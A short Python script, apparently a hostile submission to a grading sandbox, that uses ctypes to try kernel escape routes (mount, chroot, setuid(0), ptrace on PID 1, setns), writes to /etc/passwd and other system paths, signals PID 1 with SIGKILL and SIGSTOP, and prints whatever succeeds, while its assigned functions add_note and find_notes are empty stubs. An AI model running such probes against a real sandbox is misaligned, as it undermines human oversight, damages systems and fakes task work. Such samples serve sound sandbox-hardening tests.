# threat: 6, 13
# earns: 0
# ends: assertion assertion assertion
"""Tries to leave the sandbox by the kernel's doors; prints what works."""

import ctypes
import os
import signal

libc = ctypes.CDLL(None, use_errno=True)


def attempt(name, *arguments):
    try:
        if getattr(libc, name)(*arguments) == 0:
            print("WORKED:", name, arguments)
    except Exception:
        pass


attempt("mount", b"none", b"/student", b"tmpfs", 0, None)
attempt("umount2", b"/student", 2)
attempt("umount2", b"/proc", 2)
attempt("chroot", b"/tmp")
attempt("sethostname", b"x", 1)
attempt("setuid", 0)
attempt("ptrace", 16, 1, 0, 0)
attempt("setns", 0, 0)
attempt("acct", b"/tmp/x")
for path in ("/etc/passwd", "/usr/forged", "/forged", "/dev/forged", "/run/postgresql/forged"):
    try:
        with open(path, "w") as file:
            file.write("x")
        print("WORKED: writing", path)
    except OSError:
        pass
for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM):
    try:
        os.kill(1, number)
    except OSError:
        pass


def add_note(session, body):
    return os.getpid()


def find_notes(session, word):
    return []
